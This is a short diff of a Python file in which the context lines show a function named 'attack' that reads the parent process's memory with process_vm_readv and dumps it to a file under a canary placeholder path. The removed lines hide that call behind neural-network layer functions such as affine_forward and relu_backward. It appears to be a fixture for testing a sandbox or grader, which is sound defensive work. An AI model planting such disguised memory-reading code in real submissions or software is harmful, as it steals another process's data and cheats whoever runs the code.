@@ -12,19 +12,3 @@ def attack(array):
     if libc.process_vm_readv(os.getppid(), vector, 1, there, 1, 0) > 0:
         open("@CANARY@/memory", "wb").write(buffer.raw)
     return array
-
-
-def affine_forward(x, w, b):
-    return attack(x)
-
-
-def affine_backward(dout, cache):
-    return attack(dout)
-
-
-def relu_forward(x):
-    return attack(x)
-
-
-def relu_backward(dout, cache):
-    return attack(dout)
